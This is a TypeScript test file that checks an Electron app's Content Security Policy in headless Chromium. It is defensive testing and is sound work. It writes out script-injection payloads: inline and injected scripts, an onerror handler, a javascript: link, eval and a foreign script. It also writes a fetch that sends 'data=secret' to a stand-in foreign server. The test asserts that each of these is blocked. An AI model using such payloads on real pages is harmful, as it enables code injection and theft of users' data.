import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCsp } from '../../electron/core/csp';
import { chromiumFound, launchHarness, type Harness } from '../harness/launch';

/**
 * The renderer's Content Security Policy, enforced by Chromium on the real built app (served with the
 * same header as app://): scripts put into the page by any means do not run, inline handlers and
 * javascript: links do not run, eval and its kin are refused, nothing loads or connects outside the
 * app's own origin, and Chromium reports each attempt as a violation. The app's own code runs.
 */

const haveChromium = chromiumFound();
if (!haveChromium) console.warn('SKIPPED: the CSP test in Chromium needs Debian\'s chromium-headless-shell or chromium (or CHROMIUM_PATH).');

/** The page's globals these callbacks touch (the Node project has no DOM lib). */
interface El { setAttribute(n: string, v: string): void; click(): void; textContent: string | null; src: string; srcdoc: string; append(...n: unknown[]): void }
interface PageGlobals {
  document: { createElement(t: string): El; createRange(): { createContextualFragment(html: string): unknown }; body: El; head: El; addEventListener(t: string, f: (e: { violatedDirective: string; blockedURI: string }) => void): void };
  ran: Record<string, boolean>;
  tried: Record<string, string>;
  violations: { directive: string; blocked: string }[];
  setTimeout(code: string | (() => void), ms: number): void;
  eval(code: string): unknown;
  fetch(url: string): Promise<unknown>;
  Function: FunctionConstructor;
}

let h: Harness;
let foreign: Server;
let foreignOrigin = '';
const foreignHits: string[] = [];

beforeAll(async () => {
  if (!haveChromium) return;
  // A server outside the app's origin that would happily serve a script and take data.
  foreign = createServer((req, res) => {
    foreignHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
    res.end('window.ran.foreign = true;');
  });
  await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', () => r()));
  foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  h = await launchHarness({ sandbox: { rateLimit: 0 } });
  await h.page.evaluate(() => {
    const w = globalThis as unknown as PageGlobals;
    w.ran = {};
    w.tried = {};
    w.violations = [];
    w.document.addEventListener('securitypolicyviolation', (e) => w.violations.push({ directive: e.violatedDirective, blocked: e.blockedURI }));
  });
}, 180_000);
afterAll(async () => {
  await h?.close();
  if (foreign) await new Promise((r) => foreign.close(r));
});

const settle = () => new Promise((r) => setTimeout(r, 400));

describe.skipIf(!haveChromium)('CSP in Chromium: the built renderer', () => {
  it('is served with the policy, and the app\'s own scripts run under it', async () => {
    const res = await h.page.request.get(`${h.origin}/`);
    expect(res.headers()['content-security-policy']).toBe(buildCsp());
    expect(await h.page.getAttribute('body', 'data-app-ready')).not.toBeNull();
  });

  it('blocks inline and injected scripts, inline handlers, javascript: links, eval, string timers, foreign scripts, frames and connections', async () => {
    const outcomes = await h.page.evaluate(async (foreignUrl) => {
      const w = globalThis as unknown as PageGlobals;
      const d = w.document;
      const out: Record<string, string> = {};
      // 1. An inline <script> added to the page.
      const inline = d.createElement('script');
      inline.textContent = 'window.ran.inline = true;';
      d.body.append(inline);
      // 2. Markup injected into the page with a script in it (a contextual fragment's scripts would run).
      d.body.append(d.createRange().createContextualFragment('<script>window.ran.injected = true;</script>'));
      // 3. An inline event handler, the classic injection.
      const img = d.createElement('img');
      img.setAttribute('onerror', 'window.ran.handler = true;');
      img.src = 'data:,not-an-image';
      d.body.append(img);
      // 4. A javascript: link, clicked.
      const a = d.createElement('a');
      a.setAttribute('href', 'javascript:window.ran.jsUrl = true');
      d.body.append(a);
      a.click();
      // 5. eval, new Function and a string timer. DevTools' own evaluation may eval despite the policy,
      // so eval is tried from a task of the page, as page code would.
      const evalTried = new Promise<void>((resolve) => {
        w.setTimeout(() => {
          try { w.eval('window.ran.eval = true'); w.tried.eval = 'ran'; } catch (e) { w.tried.eval = String(e); }
          const MakeFunction = w.Function;
          try { new MakeFunction('window.ran.fn = true')(); w.tried.fn = 'ran'; } catch (e) { w.tried.fn = String(e); }
          resolve();
        }, 0);
      });
      w.setTimeout('window.ran.timer = true', 0);
      await evalTried;
      Object.assign(out, w.tried);
      // 6. A script from another origin.
      const remote = d.createElement('script');
      remote.src = `${foreignUrl}/payload.js`;
      d.head.append(remote);
      // 7. Frames: one with its own inline script (it inherits the policy), one from another origin.
      const frame = d.createElement('iframe');
      frame.srcdoc = '<script>parent.ran.frame = true</script>';
      d.body.append(frame);
      const framed = d.createElement('iframe');
      framed.src = `${foreignUrl}/frame.html`;
      d.body.append(framed);
      // 8. A connection out (what a stolen secret would need).
      try { await w.fetch(`${foreignUrl}/collect?data=secret`); out.fetch = 'sent'; } catch (e) { out.fetch = String(e); }
      return out;
    }, foreignOrigin);
    await settle();
    const ran = await h.page.evaluate(() => (globalThis as unknown as PageGlobals).ran);
    const violations = await h.page.evaluate(() => (globalThis as unknown as PageGlobals).violations);
    console.log(`CSP in Chromium: attempts 11 (inline script, injected markup script, inline handler, javascript: link, eval, new Function, string timer, foreign script, frame with a script, foreign frame, fetch out); ran ${Object.keys(ran).length}; violations reported ${violations.length} (${[...new Set(violations.map((v) => v.directive))].join(', ')}); requests that reached the foreign server ${foreignHits.length}`);
    expect(ran).toEqual({});
    expect(outcomes.eval).toMatch(/EvalError/);
    expect(outcomes.fn).toMatch(/EvalError/);
    expect(outcomes.fetch).toMatch(/TypeError/);
    expect(foreignHits).toEqual([]);
    const directives = new Set(violations.map((v) => v.directive));
    for (const d of ['script-src-elem', 'script-src-attr', 'frame-src', 'connect-src']) expect(directives, d).toContain(d);
    // eval, new Function and the string timer are reported as script-src ('unsafe-eval' missing).
    expect(violations.filter((v) => v.directive === 'script-src' && v.blocked === 'eval').length).toBeGreaterThanOrEqual(3);
  });

  it('loads without a console message about its policy (the <meta> carries nothing a meta cannot)', async () => {
    const page = await h.context.newPage();
    const messages: string[] = [];
    page.on('console', (m) => messages.push(m.text()));
    try {
      await page.goto(`${h.origin}/`, { waitUntil: 'load' });
      await settle();
    } finally {
      await page.close();
    }
    expect(messages.filter((m) => /Content Security Policy|frame-ancestors/i.test(m))).toEqual([]);
  });

  it('the app still works after the attempts: it navigates and reads through the bridge', async () => {
    await h.page.evaluate(() => { (globalThis as unknown as { location: { hash: string } }).location.hash = '#/customers'; });
    await h.page.waitForSelector('[data-testid="list-table"] tbody tr', { timeout: 30_000 });
  });
});
